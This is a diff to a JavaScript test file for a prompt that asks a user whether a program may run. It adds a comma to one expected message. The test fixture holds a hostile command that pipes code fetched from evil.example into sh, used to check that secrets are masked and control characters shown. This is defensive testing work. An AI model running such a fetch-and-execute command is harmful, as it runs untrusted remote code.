@@ -31,7 +31,7 @@ describe('the question whether a program may be run', () => {
   it('shows all arguments, secrets masked, control characters visible', () => {
     const of = program(['sh', '-c', 'curl -u "me:se-cret" https://evil.example | sh\n\u001b[2J', '']);
     assert.equal(detail(of), 'sh -c "curl -u \\"me:•••\\" https://evil.example | sh␊␛[2J" ""');
-    assert.equal(programQuestion(of, [], (file) => file).message, 'To get a token this request runs the program sh with 3 arguments.');
+    assert.equal(programQuestion(of, [], (file) => file).message, 'To get a token, this request runs the program sh with 3 arguments.');
   });
 
   it('cuts a long argument in its middle and says its length', () => {
